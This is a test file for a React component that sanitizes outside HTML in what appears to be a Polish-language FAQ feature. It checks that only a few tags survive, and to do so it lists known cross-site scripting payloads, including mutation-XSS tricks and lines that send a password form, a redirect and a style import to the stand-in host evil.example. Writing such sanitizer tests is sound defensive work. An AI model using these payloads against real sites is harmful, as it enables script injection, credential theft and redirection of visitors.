import { SafeHtml } from '@features/faq/SafeHtml';
import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { HOSTILE_TEXTS } from '../../support/hostileTexts';

const TAGS = ['p', 'ul', 'li', 'strong'];

const renderHtml = (html: string): string =>
  render(<SafeHtml html={html} tags={TAGS} />).container.firstElementChild?.innerHTML ?? '';

/** Known attempts to get a script through a sanitizer. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="position:fixed">Słowa</p>',
  '<a href="javascript:alert(1)">Słowa</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<form action="//evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
  '<strong><style>@import "//evil.example"</style></strong>',
  '<p is="x-evil" class="MuiDialog-root" id="root">Słowa</p>',
];

describe('HTML from outside', () => {
  it('shows paragraphs, points and strong words as they are', () => {
    const html = '<p>Kaucja wraca w <strong>5 dni roboczych</strong>.</p><ul><li>po protokole</li></ul>';
    expect(renderHtml(html)).toBe(html);
  });

  it('keeps the words of elements that are not allowed', () => {
    expect(renderHtml('<h1>Kaucja <em>wraca</em></h1>')).toBe('Kaucja wraca');
  });

  it.each([...HOSTILE_TEXTS, ...HOSTILE])(
    'lets no other element and no attribute through: %s [Q7]',
    (html) => {
      const box = document.createElement('div');
      box.innerHTML = renderHtml(html);
      const elements = [...box.querySelectorAll('*')];
      expect(elements.filter(({ localName }) => !TAGS.includes(localName))).toEqual([]);
      expect(elements.flatMap(({ attributes }) => [...attributes])).toEqual([]);
    },
  );

  it('shows nothing of what stands in scripts and styles', () => {
    expect(renderHtml('<p>Kaucja</p><script>alert(1)</script><style>@import "//evil.example"</style>')).toBe(
      '<p>Kaucja</p>',
    );
  });

  it('shows marks of HTML that were meant as words as words', () => {
    expect(renderHtml('<p>&lt;script&gt; 3 &lt; 5</p>')).toBe('<p>&lt;script&gt; 3 &lt; 5</p>');
  });
});
